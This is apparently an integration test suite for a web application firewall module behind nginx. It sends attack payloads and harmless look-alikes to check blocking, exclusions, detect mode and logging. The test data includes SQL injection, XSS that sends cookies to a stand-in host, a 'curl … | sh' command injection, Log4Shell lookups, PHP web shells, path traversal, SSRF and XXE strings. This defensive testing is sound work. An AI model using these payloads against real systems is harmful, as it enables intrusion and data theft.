import {
  type EdgeWafModule,
  WAF_BODY_LIMIT_BYTES,
  WAF_GROUP_RULE_BASE,
  WAF_GROUPS,
  type WafGroup,
  wafRuleGroup,
} from '@rampart/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nginxCpuMs } from './helpers/cpu-time.js';
import { document, domain, moduleRefs, upstream, wafModule } from './helpers/documents.js';
import { type Edge, startEdge } from './helpers/edge.js';
import { type Origin, servedBy, startOrigin } from './helpers/origins.js';
import { sendFrom } from './helpers/send.js';
import { type WafPlace, type WafReply, wafSender } from './helpers/waf-send.js';

// The WAF (rampart.waf, issue 20) through a real nginx: every attack family blocked in each place
// it can hide (query, urlencoded form, JSON, multipart, cookie, header, path) with a benign twin
// that passes; groups turned off; exclusions scoped by rule or group, part, name and path; detect
// mode logging without blocking; the decision and its part and excerpt in the access log; a
// pathological body within the budget; a body over the inspected limit following the fail mode.
// The payloads are written for these tests (no corpus line).

const ALL = [...WAF_GROUPS];
const DOLLAR = '$';

const waf = wafModule;
const refs = (id: number) => moduleRefs({ waf: id });

const MODULES: EdgeWafModule[] = [
  waf(1),
  waf(2, { mode: 'detect' }),
  waf(3, { groups: ALL.filter((g) => g !== 'sqli' && g !== 'rce') }),
  waf(4, {
    exclusions: [
      // the whole sqli group, for the query argument "q", on /search only
      { ruleId: null, group: 'sqli', part: 'query', name: 'q', path: '/search' },
      // one rule (a script-capable tag) for the form field "html", everywhere
      { ruleId: WAF_GROUP_RULE_BASE.xss + 1, group: null, part: 'body', name: 'html', path: '' },
      // a header, named in another case
      { ruleId: null, group: 'rce', part: 'header', name: 'X-Build-Cmd', path: '' },
    ],
  }),
  waf(5, { failMode: 'closed' }),
];

const HOSTS = ['block', 'detect', 'groups', 'excluded', 'closed'];
const host = (name: string) => `${name}.waf.example`;

let edge: Edge;
let origin: Origin;

type Place = Exclude<WafPlace, 'xml'>;
const PLACES: Place[] = ['query', 'form', 'json', 'multipart', 'cookie', 'header', 'path'];
const BOUNDARY = 'rampartWafBoundary42';

const senders = new Map(HOSTS.map((name) => [name, wafSender(() => edge, host(name))]));
/** One value sent in one place to the domain `to`, on a new connection. */
function sendIn(place: Place, value: string, name = 'v', to = 'block', urlPath = '/app'): Promise<WafReply> {
  const sender = senders.get(to);
  if (!sender) throw new Error(`no WAF test domain ${to}`);
  return sender.sendIn(place, value, name, urlPath);
}

interface LogLine {
  uri: string;
  status: string;
  fw_kind: string;
  fw_rule: string;
  fw_action: string;
  waf_part: string;
  waf_excerpt: string;
  waf_name: string;
}

/** The access-log line of the request whose URI contains `marker` (polled: the log flushes every second). */
async function logLine(marker: string): Promise<LogLine | undefined> {
  for (let i = 0; i < 40; i++) {
    const lines = (await edge.accessLog())
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((l) => JSON.parse(l) as LogLine)
      .filter((l) => l.uri.includes(marker));
    if (lines.length > 0) return lines[lines.length - 1];
    await new Promise((r) => setTimeout(r, 100));
  }
  return undefined;
}

beforeAll(async () => {
  origin = await startOrigin('origin');
  edge = await startEdge();
  await edge.push(
    document(
      'waf-1',
      HOSTS.map((name, i) => domain(i + 1, host(name), [upstream(origin.port)], { modules: refs(i + 1) })),
      [],
      [],
      { modules: MODULES },
    ),
  );
});

afterAll(async () => {
  await edge?.stop();
  await origin?.close();
});

/** Each family: an attack, the group whose range its rule must be in, and a benign twin. */
const FAMILIES: { family: string; group: WafGroup; attack: string; benign: string; places?: Place[] }[] = [
  { family: 'SQL injection (tautology)', group: 'sqli', attack: "nobody' OR 'x'='x", benign: "O'Reilly and sons" },
  {
    family: 'SQL injection (UNION)',
    group: 'sqli',
    attack: '0 UNION ALL SELECT name, pass FROM users',
    benign: 'the union of two sets, select one',
  },
  {
    family: 'SQL injection (time)',
    group: 'sqli',
    attack: '7 AND SLEEP(9)',
    benign: 'I need 7 hours of sleep (at least)',
  },
  { family: 'XSS (tag)', group: 'xss', attack: '<svg/onload=top.alert(7)>', benign: 'h1<h2 and 3 > 2' },
  {
    family: 'XSS (script URL)',
    group: 'xss',
    attack: 'javascript:fetch(`//x.example/`+document.cookie)',
    benign: 'JavaScript: the good parts',
  },
  {
    family: 'command injection',
    group: 'rce',
    attack: 'a.png; curl -s http://198.51.100.7/x | sh',
    benign: 'cats & dogs; a curl of hair',
  },
  {
    family: 'path traversal',
    group: 'traversal',
    attack: '../../../../etc/shadow',
    benign: 'chapter 1.2.3',
    places: ['query', 'form', 'json', 'multipart', 'cookie', 'header'],
  },
  {
    family: 'PHP injection',
    group: 'php',
    attack: '<?php echo shell_exec($_GET["c"]); ?>',
    benign: 'price: $5 (php course)',
  },
  {
    family: 'Log4Shell',
    group: 'java',
    // "$" and "{" joined at run time: a lookup, not a template literal
    attack: `${DOLLAR}{${DOLLAR}{lower:j}ndi:ldap://198.51.100.7/a}`,
    benign: `costs ${DOLLAR}{price} each`,
  },
  {
    family: 'template injection',
    group: 'ssti',
    attack: "{{ self.__init__.__globals__['os'] }}",
    benign: '{{ name }} said hello',
  },
  {
    family: 'SSRF',
    group: 'ssrf',
    attack: 'http://169.254.169.254/latest/meta-data/',
    benign: 'https://www.example.com/a?b=c',
    places: ['query', 'form', 'json', 'multipart', 'cookie'],
  },
];

describe('WAF: each attack family blocked wherever it hides, its benign twin passing', () => {
  for (const f of FAMILIES) {
    for (const place of f.places ?? PLACES) {
      it(`${f.family} in the ${place}: 403 from the edge, the origin never reached; the twin reaches the origin`, async () => {
        const blocked = await sendIn(place, f.attack);
        expect(blocked).toEqual({ status: 403, origin: false });
        const passed = await sendIn(place, f.benign);
        expect(passed).toEqual({ status: 200, origin: true });
      });
    }
  }

  it('XXE: an XML body declaring an external entity is blocked; plain XML passes', async () => {
    const xml = (doctype: string) => `<?xml version="1.0"?>${doctype}<order><item sku="a-1">2</item></order>`;
    const send = (body: string) =>
      sendFrom('127.0.0.1', edge.httpPort, host('block'), {
        path: '/orders',
        method: 'POST',
        headers: { 'content-type': 'application/xml', 'content-length': String(Buffer.byteLength(body)) },
        body,
      });
    const bad = await send(xml('<!DOCTYPE order [<!ENTITY e SYSTEM "file:///etc/hostname">]>'));
    expect(bad !== 'closed' && bad.status).toBe(403);
    const good = await send(xml(''));
    expect(good !== 'closed' && servedBy(good.body)).toBe('origin');
  });

  it('web shells: an upload named .php or holding PHP code is blocked; an image upload passes', async () => {
    const upload = (filename: string, content: string) => {
      const body = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${BOUNDARY}--\r\n`;
      return sendFrom('127.0.0.1', edge.httpPort, host('block'), {
        path: '/upload',
        method: 'POST',
        headers: {
          'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
          'content-length': String(Buffer.byteLength(body)),
        },
        body,
      });
    };
    const named = await upload('avatar.php', 'GIF89a');
    expect(named !== 'closed' && named.status).toBe(403);
    const code = await upload('avatar.gif', 'GIF89a<?php eval($_POST[1]);');
    expect(code !== 'closed' && code.status).toBe(403);
    const fine = await upload('avatar.gif', 'GIF89a\u0001\u0002 an image');
    expect(fine !== 'closed' && servedBy(fine.body)).toBe('origin');
  });

  it('sensitive files and scanners: /.git/config and a scanner user agent are blocked; /assets/app.js passes', async () => {
    const get = (path: string, ua = 'Mozilla/5.0') =>
      sendFrom('127.0.0.1', edge.httpPort, host('block'), { path, headers: { 'user-agent': ua } });
    for (const reply of [
      await get('/.git/config'),
      await get('/.env'),
      await get('/', 'sqlmap/1.7 (https://sqlmap.org)'),
    ]) {
      expect(reply !== 'closed' && reply.status).toBe(403);
    }
    const fine = await get('/assets/app.js');
    expect(fine !== 'closed' && servedBy(fine.body)).toBe('origin');
  });

  it('real traffic shapes pass: a JSON beacon, a big cookie, a bearer token, a search with punctuation', async () => {
    const beacon = await sendIn('json', 'https://shop.example/cart?step=2&coupon=SPRING-24 (mobile)');
    expect(beacon).toEqual({ status: 200, origin: true });
    const cookie = await sendIn(
      'cookie',
      Buffer.from(JSON.stringify({ cart: [1, 2, 3], theme: 'dark' })).toString('base64'),
    );
    expect(cookie).toEqual({ status: 200, origin: true });
    const token = await sendIn('header', `Bearer eyJhbGciOiJIUzI1NiJ9.${'eyJzdWIiOiIxMjM0NTY3ODkwIn0'}.c2lnbmF0dXJl`);
    expect(token).toEqual({ status: 200, origin: true });
    const search = await sendIn('query', 'C++ vs. Rust: which is faster? (2024 edition) -- a comparison');
    expect(search).toEqual({ status: 200, origin: true });
  });
});

/**
 * Shapes of attack classes read since the first tuning (causes of misses: a decoding or a reading
 * the engine lacked, a part it did not look at), each with a benign twin that must pass. Written
 * for these tests from the grammar of each class, not taken from a corpus.
 */
const VALUE_PLACES: Place[] = ['query', 'form', 'json', 'multipart', 'cookie'];
const SHAPES: { shape: string; attack: string; benign: string; name?: string; places?: Place[] }[] = [
  {
    shape: 'a script URL whose scheme is spelled with control characters (ja&Tab;vascript:)',
    attack: 'jav&#x09;ascript:x',
    benign: 'Java script: a tutorial',
    places: [...VALUE_PLACES, 'header'],
  },
  {
    shape: 'markup in US-ASCII with the high bit set (\\xbc for "<")',
    attack: '\\xbcscript src=//x.example/a.js\\xbe\\xbc/script\\xbe',
    benign: '\u00bc cup of sugar, \u00be cup of flour',
  },
  {
    shape: 'JSFuck with "+" read as a space',
    attack: '(![] [])[ ! []]',
    benign: '![](https://img.example/a.png) nice!',
  },
  { shape: 'a DOM sink alone (window.location)', attack: 'window.location', benign: 'window.png and document.pdf' },
  {
    shape: 'a DOM sink read through a parenthesised object and a bracket',
    attack: '(document)["cookie"]',
    benign: '(see the document)["page 2"]',
  },
  {
    shape: 'a tagged template whose substitution calls a function',
    attack: `[].sort.call\`${DOLLAR}{alert}7\``,
    benign: 'the `.call` method costs $5',
  },
  { shape: 'CSS url() to a script URL', attack: 'background:url(javascript', benign: 'background:url(/img/bg.png)' },
  {
    shape: 'a <style> element importing a remote sheet',
    attack: "<style>@import 'http://x.example/x.css';</style>",
    benign: '<b>bold</b> style @import is a CSS rule',
  },
  {
    shape: 'markup pointing an XML parser at a remote schema',
    attack:
      '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.example/ http://198.51.100.7/x.xsd">x</x>',
    benign: '<x lang="en">x</x>',
  },
  {
    shape: 'remote file inclusion from an IPv6 literal host',
    attack: 'https://[2001:db8::7]/shell.php',
    benign: 'https://www.example.org/docs/page.html',
    places: VALUE_PLACES,
  },
  {
    shape: 'remote file inclusion from an IPv4 host without a path',
    attack: 'ftp://198.51.100.7',
    benign: 'ftp is at 198.51.100.7',
    places: VALUE_PLACES,
  },
  {
    shape: 'a remote URL given to a parameter named for a local path',
    attack: 'https://x.example/',
    benign: 'https://x.example/',
    name: 'mosConfig_absolute_path',
    places: ['query', 'form', 'json', 'multipart'],
  },
  {
    shape: 'an internal service name without a scheme (SSRF)',
    attack: 'kubernetes.default.svc/api',
    benign: 'kubernetes.io/docs',
    places: VALUE_PLACES,
  },
  {
    shape: 'a data: URL of any type (SSRF)',
    attack: 'data:text/plain',
    benign: 'data: text plain',
    places: VALUE_PLACES,
  },
  {
    shape: 'an administration tool at the start of a value',
    attack: 'ansible all -m shell -a id',
    benign: 'ansible is a tool I like',
    places: [...VALUE_PLACES, 'header'],
  },
  {
    shape: 'a quoted command after a shell separator',
    attack: "x;'curl' http://198.51.100.7/",
    benign: "a; 'curly' hair",
    places: [...VALUE_PLACES, 'header'],
  },
  { shape: 'a PHP function called through an array', attack: "[system][0]('id');", benign: '[system] message: ready' },
  {
    shape: 'a PHP variable variable with spaces ("$ {")',
    attack: `${DOLLAR} {'_GE'.'T'}`,
    benign: `price: ${DOLLAR} 5 {approx}`,
  },
  {
    shape: 'a PHP variable call with comments between the brackets',
    attack: `${DOLLAR}_x/*a*/[0]/*b*/[1] (7)`,
    benign: 'x/*a*/[0] (7)',
  },
  { shape: 'a php.ini line', attack: 'extension=/tmp/x.so', benign: 'extension 2 = room 14' },
  { shape: 'a PHP function that tests files', attack: "file_exists ('/x')", benign: 'the file exists (I think)' },
  {
    shape: 'a request line inside a value (smuggling)',
    attack: 'GET http://x.example/ HTTP/1.1',
    benign: 'GET the book at http://x.example/ now',
    places: VALUE_PLACES,
  },
  {
    shape: 'an attack inside a JSON document given as a value (read key by key)',
    attack: '{"q":"1\' OR \'1\'=\'1","n":2}',
    benign: '{"q":"O\'Reilly","n":2}',
  },
  {
    shape: 'a climb in the query of a URL given as a value (its arguments read one by one)',
    attack: 'https://x.example/?next=..%2F..%2F..%2Fetc%2Fpasswd',
    benign: 'https://x.example/?next=%2Faccount%2Fsettings&utm_source=mail',
    places: VALUE_PLACES,
  },
  {
    shape: 'markup hidden in a base64 value with padding',
    attack: Buffer.from('<script>alert(7)</script>').toString('base64'),
    benign: Buffer.from('a plain sentence, no more').toString('base64'),
  },
  {
    shape: "Apache mod_proxy's unix socket prefix",
    attack: 'unix:/run/x.sock|http://x.example/',
    benign: 'unix: a family of systems | http://x.example/',
    places: VALUE_PLACES,
  },
];

describe('WAF: attack shapes added by the tuning, each blocked with its benign twin passing', () => {
  for (const f of SHAPES) {
    for (const place of f.places ?? ['query', 'form', 'json', 'multipart', 'cookie']) {
      it(`${f.shape}, in the ${place}`, async () => {
        const name = f.name ?? 'v';
        const blocked = await sendIn(place, f.attack, name);
        expect(blocked).toEqual({ status: 403, origin: false });
        // the path-parameter shape's twin is the same URL under an ordinary name
        const passed = await sendIn(place, f.benign, f.name ? 'homepage' : name);
        expect(passed).toEqual({ status: 200, origin: true });
      });
    }
  }

  const get = (path: string, headers: Record<string, string> = {}, method = 'GET', body?: string) =>
    sendFrom('127.0.0.1', edge.httpPort, host('block'), {
      path,
      method,
      headers: body === undefined ? headers : { ...headers, 'content-length': String(Buffer.byteLength(body)) },
      body,
    });
  const statusOf = (r: Awaited<ReturnType<typeof get>>) => (r === 'closed' ? 'closed' : r.status);

  it('a Content-Type that is no type is judged without a body; ordinary ones pass', async () => {
    expect(statusOf(await get('/ct', { 'content-type': 'text/xml; blah' }))).toBe(403);
    expect(statusOf(await get('/ct', { 'content-type': "%{(#x='multipart/form-data').(#y=@ognl" }))).toBe(403);
    expect(
      statusOf(
        await get('/ct', { 'content-type': 'application/x-www-form-urlencoded;boundary="text/xml"' }, 'POST', ''),
      ),
    ).toBe(403);
    expect(
      statusOf(
        await get(
          '/ct',
          { 'content-type': 'application/x-www-form-urlencoded; charset=utf-8; charset=utf-7' },
          'POST',
          'a=1',
        ),
      ),
    ).toBe(403);
    expect(statusOf(await get('/ct', { 'content-type': 'text/plain;charset=UTF-8;' }, 'POST', 'hello'))).toBe(200);
    expect(statusOf(await get('/ct', { 'content-type': 'application/json;' }, 'POST', '{"a":1}'))).toBe(200);
  });

  it('a line break in the path or in an argument or cookie name is blocked; encoded letters pass', async () => {
    expect(statusOf(await get('/a%0Ab'))).toBe(403);
    expect(statusOf(await get('/index.php/PHP%0Ainfo.php'))).toBe(403);
    expect(statusOf(await get('/get?name%0d%0a=1'))).toBe(403);
    expect(statusOf(await get('/a%41b?na%6De=1'))).toBe(200);
  });

  it('a query or form of ordinary arguments, read in one pass, still has its words and base64 values read', async () => {
    const ordinary = 'first_name=Marie&email=marie%40example.com&comment=Leave+it+with+the+neighbour%2C+please&n=2';
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    expect(statusOf(await get(`/a?${ordinary}`))).toBe(200);
    expect(statusOf(await get('/a', form, 'POST', ordinary))).toBe(200);
    // a command alone (a keyword of the prefilter), a script in base64, a SQL break after "+" spaces
    const b64 = Buffer.from('<script>alert(7)</script>').toString('base64url');
    for (const attack of [`${ordinary}&cmd=whoami`, `${ordinary}&t=${b64}`, `${ordinary}&id=1+union+select+1`]) {
      expect(statusOf(await get(`/a?${attack}`))).toBe(403);
      expect(statusOf(await get('/a', form, 'POST', attack))).toBe(403);
    }
    // an "=" or "&" inside a value (encoded or a second "=") is read argument by argument
    expect(statusOf(await get('/a?n=1&id=1+or+1=1'))).toBe(403);
    expect(statusOf(await get('/a?n=1&id=1%20or%201%3D1'))).toBe(403);
  });

  it('JSON lines in a text body are read line by line: an attack in any line is blocked', async () => {
    const lines = (last: string) =>
      `${JSON.stringify({ sent_at: '2026-01-01T00:00:00Z' })}\n${JSON.stringify({ type: 'event' })}\n${JSON.stringify({ message: last })}\n`;
    const bad = lines('<img src=x onerror=alert(7)>');
    expect(statusOf(await get('/envelope', { 'content-type': 'text/plain;charset=UTF-8' }, 'POST', bad))).toBe(403);
    const fine = lines('TypeError: x is undefined (app.js:1:2)');
    expect(statusOf(await get('/envelope', { 'content-type': 'text/plain;charset=UTF-8' }, 'POST', fine))).toBe(200);
  });

  it('a cookie carrying a blank line and markup (response splitting) is blocked', async () => {
    expect(statusOf(await get('/c', { cookie: 'a=b%0d%0a%0d%0a<html><title>x</title></html>' }))).toBe(403);
    expect(statusOf(await get('/c', { cookie: 'a=b; c=<3 you' }))).toBe(200);
  });

  it('an upload whose name climbs out of the folder or hides the extension behind a space is blocked', async () => {
    const upload = (filename: string) => {
      const body = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\nBINARY\r\n--${BOUNDARY}--\r\n`;
      return get('/upload', { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }, 'POST', body);
    };
    expect(statusOf(await upload('../x.7z'))).toBe(403);
    expect(statusOf(await upload('..\\x.7z'))).toBe(403);
    expect(statusOf(await upload('photo. php'))).toBe(403);
    expect(statusOf(await upload('photo.2024.jpg'))).toBe(200);
    expect(statusOf(await get('/upload', { 'x-filename': 'shell. jsp' }))).toBe(403);
    expect(statusOf(await get('/upload', { 'x-filename': 'report. final.pdf' }))).toBe(200);
  });
});

describe('WAF: groups, exclusions and modes', () => {
  it('a group turned off is not detected; the groups left on still are', async () => {
    expect(await sendIn('query', "nobody' OR 'x'='x", 'v', 'groups')).toEqual({ status: 200, origin: true });
    expect(await sendIn('query', 'a.png; curl -s x.example/x | sh', 'v', 'groups')).toEqual({
      status: 200,
      origin: true,
    });
    expect(await sendIn('query', '<svg/onload=top.alert(7)>', 'v', 'groups')).toEqual({ status: 403, origin: false });
  });

  it('a group exclusion applies to its part, name and path only', async () => {
    const sqli = "nobody' OR 'x'='x";
    expect(await sendIn('query', sqli, 'q', 'excluded', '/search')).toEqual({ status: 200, origin: true });
    expect(await sendIn('query', sqli, 'q', 'excluded', '/search/deeper')).toEqual({ status: 200, origin: true });
    // another path, another name, another part: still blocked
    expect(await sendIn('query', sqli, 'q', 'excluded', '/login')).toEqual({ status: 403, origin: false });
    expect(await sendIn('query', sqli, 'id', 'excluded', '/search')).toEqual({ status: 403, origin: false });
    expect(await sendIn('form', sqli, 'q', 'excluded', '/search')).toEqual({ status: 403, origin: false });
    // the group only: another group in the same argument is still detected
    expect(await sendIn('query', '<svg/onload=top.alert(7)>', 'q', 'excluded', '/search')).toEqual({
      status: 403,
      origin: false,
    });
  });

  it('a rule exclusion skips that rule only; a header exclusion matches the name in any case', async () => {
    // a script-capable tag in the excluded form field passes, in another field it does not
    expect(await sendIn('form', '<iframe src="/embed/clip-7"></iframe>', 'html', 'excluded')).toEqual({
      status: 200,
      origin: true,
    });
    expect(await sendIn('form', '<iframe src="/embed/clip-7"></iframe>', 'body', 'excluded')).toEqual({
      status: 403,
      origin: false,
    });
    // another XSS rule (an event handler) in the same field is still applied
    expect(await sendIn('form', '<img src=x onerror=alert(7)>', 'html', 'excluded')).toEqual({
      status: 403,
      origin: false,
    });
    expect(await sendIn('header', 'make all; /bin/sh -c "id"', 'build-cmd', 'excluded')).toEqual({
      status: 200,
      origin: true,
    });
    expect(await sendIn('header', 'make all; /bin/sh -c "id"', 'other-cmd', 'excluded')).toEqual({
      status: 403,
      origin: false,
    });
  });

  it('detect mode lets the attack through and logs kind waf, action detect, the rule, part and excerpt', async () => {
    const reply = await sendIn('query', '0 UNION ALL SELECT name, pass FROM users', 'detect-marker', 'detect');
    expect(reply).toEqual({ status: 200, origin: true });
    const line = await logLine('detect-marker');
    expect(line).toMatchObject({
      status: '200',
      fw_kind: 'waf',
      fw_action: 'detect',
      waf_part: 'query',
      waf_name: 'detect-marker',
    });
    expect(wafRuleGroup(Number(line?.fw_rule))).toBe('sqli');
    expect(line?.waf_excerpt).toContain('UNION ALL SELECT');
    expect(line?.waf_excerpt.length).toBeLessThanOrEqual(128);
  });

  it('block mode logs action deny with the rule, the part and a short excerpt without control characters', async () => {
    await sendIn('query', 'x', 'v', 'block', '/cookie-marker-page');
    // From an address refused nowhere before: the first refusal of a minute is the one logged
    // (rampart.refusals tallies the rest).
    const reply = await sendFrom('127.0.0.61', edge.httpPort, host('block'), {
      path: '/cookie-marker',
      headers: { cookie: `pref=${encodeURIComponent(`${'a'.repeat(300)}\r\n<script>alert(7)</script>`)}` },
    });
    expect(reply !== 'closed' && reply.status).toBe(403);
    const line = await logLine('/cookie-marker');
    expect(line).toMatchObject({
      status: '403',
      fw_kind: 'waf',
      fw_action: 'deny',
      waf_part: 'cookie',
      waf_name: 'pref',
    });
    expect(wafRuleGroup(Number(line?.fw_rule))).toBe('xss');
    expect(line?.waf_excerpt).toContain('<script>');
    expect(line?.waf_excerpt.length).toBeLessThanOrEqual(128);
    expect(line?.waf_excerpt).not.toMatch(/[\r\n]/);
  });

  it('a request the WAF passes is logged without a decision', async () => {
    await sendIn('query', 'plain words', 'clean-marker');
    const line = await logLine('clean-marker');
    expect(line).toMatchObject({ fw_kind: '', fw_rule: '', waf_part: '', waf_excerpt: '', waf_name: '' });
  });
});

describe('WAF: cost bounds and the fail mode', () => {
  const post = (to: string, body: string, contentType = 'application/x-www-form-urlencoded') =>
    sendFrom('127.0.0.1', edge.httpPort, host(to), {
      path: '/bulk',
      method: 'POST',
      headers: { 'content-type': contentType, 'content-length': String(Buffer.byteLength(body)) },
      body,
    });

  it('a pathological 128 KB body is answered quickly: the budget bounds the inspection', async () => {
    const unit = `f=${encodeURIComponent('\'(<a/="`;|&${')}&`;
    const body = unit.repeat(Math.floor((WAF_BODY_LIMIT_BYTES - 1024) / unit.length));
    // The CPU time nginx's workers spent on the whole answer (reading, inspecting, proxying): the
    // budget's own clock, so the bound holds whatever the machine's load.
    const { result: reply, ms } = await nginxCpuMs(edge.nginx, () => post('block', body));
    expect(reply).not.toBe('closed');
    expect(ms).toBeLessThan(500);
    // one long value of the same bytes, windowed
    const single = `v=${encodeURIComponent('\'(<a/="`;|&${ '.repeat(9000))}`;
    const windowed = await nginxCpuMs(edge.nginx, () => post('block', single.slice(0, WAF_BODY_LIMIT_BYTES - 16)));
    expect(windowed.result).not.toBe('closed');
    expect(windowed.ms).toBeLessThan(500);
  });

  it('an ordinary body at the limit is inspected and passes; an attack at its end is found', async () => {
    // 31 text fields of 4 KB (a long form, a pasted document) and a last one
    const field = `note=${'some+ordinary+text+in+a+long+field+'.repeat(113)}&`;
    const filler = field.repeat(Math.floor((WAF_BODY_LIMIT_BYTES - 512) / field.length));
    const ok = await post('block', `${filler}last=1`);
    expect(ok !== 'closed' && servedBy(ok.body)).toBe('origin');
    const bad = await post('block', `${filler}last=${encodeURIComponent("1' OR '1'='1")}`);
    expect(bad !== 'closed' && bad.status).toBe(403);
  });

  it('a body over WAF_BODY_LIMIT_BYTES: fail closed blocks it (rule 113001), fail open passes it', async () => {
    const big = `data=${'x'.repeat(WAF_BODY_LIMIT_BYTES + 4096)}`;
    const closed = await post('closed', big);
    expect(closed !== 'closed' && closed.status).toBe(403);
    const open = await post('block', big);
    expect(open !== 'closed' && servedBy(open.body)).toBe('origin');
    const line = await logLine('/bulk');
    expect(line).toBeDefined();
    // (the closed module's line may come after the open one's: waited for, not assumed)
    let closedLines: string[] = [];
    for (let i = 0; i < 40 && closedLines.length === 0; i++) {
      closedLines = (await edge.accessLog()).split('\n').filter((l) => l.includes('"fw_rule":"113001"'));
      if (closedLines.length === 0) await new Promise((r) => setTimeout(r, 100));
    }
    expect(closedLines.length).toBeGreaterThan(0);
    expect(closedLines[0]).toContain('"waf_part":"body"');
  });
});
